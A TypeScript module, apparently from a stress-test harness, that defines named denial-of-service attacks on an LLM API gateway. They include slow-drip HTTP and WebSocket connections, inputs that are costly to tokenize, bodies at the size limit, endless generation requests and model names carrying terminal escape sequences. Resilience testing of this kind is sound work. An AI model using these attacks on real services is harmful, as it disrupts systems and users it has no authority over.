import { randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';

import { frame, upgradeLines } from './raw-websocket.ts';

/** The gateway under attack, and the attacker's key. */
export interface Target {
  url: string;
  key: string;
  /** Aborts to end the attack. */
  signal: AbortSignal;
}

/** A whole number from 0 up to `below`. */
export type Pick = (below: number) => number;

type Attack = (target: Target, pick: Pick) => Promise<unknown>;

/** Sizes of bodies in bytes: expensive texts, and texts near the limit. */
const [long, longest] = [600_000, 4 * 1024 * 1024 - 200];

const chat = (content: string, more = {}) =>
  JSON.stringify({ model: 'default', messages: [{ role: 'user', content }], ...more });

// Made once, so that an attack costs the attacker almost no time.
const costly = ['\ue123', 'a', ' ', '\n', '\u0301', '7', '<|im_start|>'].map((unit) =>
  chat(unit.repeat(Math.ceil(long / Buffer.byteLength(unit)))),
);
const oneText = [chat('x'.repeat(longest)), chat('words and '.repeat(longest / 10))];
const entries = `{"model":"default","messages":[${'{},'.repeat(longest / 3)}{}]}`;
const edges = [1e-40, 0, 2, 1e-5].flatMap((temperature) =>
  [0.01, 1, 2].map((repeat_penalty) =>
    chat('Call it', {
      tools: [{ type: 'function', function: { name: 'look', parameters: { type: 'object' } } }],
      tool_choice: 'required',
      temperature,
      repeat_penalty,
      top_p: 1,
      top_k: 0,
      min_p: 0,
      max_tokens: 24,
    }),
  ),
);
const bodies = { costly, oneText, entries: [entries], edges };
const prepared = Object.fromEntries(
  Object.entries(bodies).map(([name, texts]) => [name, texts.map((text) => Buffer.from(text))]),
) as Record<keyof typeof bodies, Buffer[]>;

function head(method: string, path: string, { url, key }: Target, lines: readonly string[]): string {
  const { host } = new URL(url);
  return [`${method} ${path} HTTP/1.1`, `Host: ${host}`, `Authorization: Bearer ${key}`, ...lines, '', ''].join('\r\n');
}

/** A connection whose response only `onData` reads. Resolves when it is closed. */
async function connection(
  { url, signal }: Target,
  begin: (socket: Socket) => void,
  onData: (chunk: Buffer, socket: Socket) => unknown = () => undefined,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname).setNoDelay();
  const destroy = () => socket.destroy();
  signal.addEventListener('abort', destroy, { once: true });
  socket.on('error', () => undefined);
  socket.on('data', (chunk) => onData(chunk, socket));
  socket.on('end', destroy);
  begin(socket);
  await new Promise((resolve) => socket.once('close', resolve));
  signal.removeEventListener('abort', destroy);
}

function post(path: string, body: Buffer, target: Target, onData?: (chunk: Buffer) => void): Promise<void> {
  const lines = ['Connection: close', 'Content-Type: application/json', `Content-Length: ${body.length}`];
  return connection(
    target,
    (socket) => {
      socket.write(head('POST', path, target, lines));
      socket.write(body);
    },
    onData,
  );
}

const upgrade = (target: Target) => head('GET', '/trpc', target, upgradeLines);

const input = { prompt: 'words and '.repeat(longest / 10) };
const oneMessage = frame(Buffer.from(JSON.stringify({ id: 1, method: 'query', params: { path: 'estimate', input } })));

const drips = [
  (target: Target) =>
    head('POST', '/v1/generations', target, ['Content-Type: application/json', 'Content-Length: 4000000']),
  upgrade,
  () => 'GET / HTTP/1.1\r\nX-Slow: ',
];

/** Attacks by name. Each takes some seconds. */
export const attacks: Readonly<Record<string, Attack>> = {
  async 'sampling at the edges'(target, pick) {
    await post('/v1/chat/completions', prepared.edges[pick(edges.length)] ?? Buffer.of(), target);
  },

  async 'a message that never ends'(target, pick) {
    const drip = pick(drips.length);
    // A byte of a head or a body, or a frame that is not the last of its message.
    const part = (at: number) => (drip === 1 ? Buffer.from([at === 0 ? 1 : 0, 0x81, 0, 0, 0, 0, 0x78]) : 'x');
    let dripping: NodeJS.Timeout | undefined;
    await connection(target, (socket) => {
      socket.write(drips[drip]?.(target) ?? '');
      let at = 0;
      dripping = setInterval(() => {
        if (at < 100 && socket.writable) socket.write(part(at++));
        else socket.destroy();
      }, 20);
    });
    clearInterval(dripping);
  },

  async 'a text that is expensive to tokenize'(target, pick) {
    const path = ['/v1/chat/completions', '/v1/messages/count_tokens'][pick(2)] ?? '';
    await post(path, prepared.costly[pick(costly.length)] ?? Buffer.of(), target);
  },

  async 'a text as large as the body limit'(target, pick) {
    await post('/v1/chat/completions', prepared.oneText[pick(oneText.length)] ?? Buffer.of(), target);
  },

  async 'a text as large as the message limit'(target) {
    let answers = 0;
    await connection(
      target,
      (socket) => {
        socket.write(upgrade(target));
        socket.write(oneMessage);
      },
      // The first response is that of the upgrade.
      (_chunk, socket) => ++answers > 1 && socket.destroy(),
    );
  },

  async 'an endless answer'(target, pick) {
    const id = randomUUID();
    const input = { id, prompt: 'Once', ignoreEos: true, onContextFull: 'shift', maxTokens: 10_000_000, logprobs: 20 };
    // About 3 kB a token.
    let left = 300_000 * (1 + pick(4));
    const enough = new AbortController();
    const signal = AbortSignal.any([target.signal, enough.signal]);
    await post('/v1/generations', Buffer.from(JSON.stringify(input)), { ...target, signal }, (chunk) => {
      left -= chunk.length;
      if (left <= 0) enough.abort();
    });
    const gone = head('DELETE', `/v1/generations/${id}`, target, ['Connection: close']);
    await connection({ ...target, signal: AbortSignal.timeout(5000) }, (socket) => socket.write(gone));
  },

  async 'a body of a million entries'(target) {
    await post('/v1/chat/completions', prepared.entries[0] ?? Buffer.of(), target);
  },

  async 'names with escape sequences'(target, pick) {
    const name = `\u001b]0;owned\u0007\u009b2J${pick(1000)}`;
    await post('/v1/chat/completions', Buffer.from(chat(name, { model: name })), target);
    const asked = head('GET', `/v1/generations/${encodeURIComponent(name)}`, target, ['Connection: close']);
    await connection(target, (socket) => socket.write(asked));
  },
};
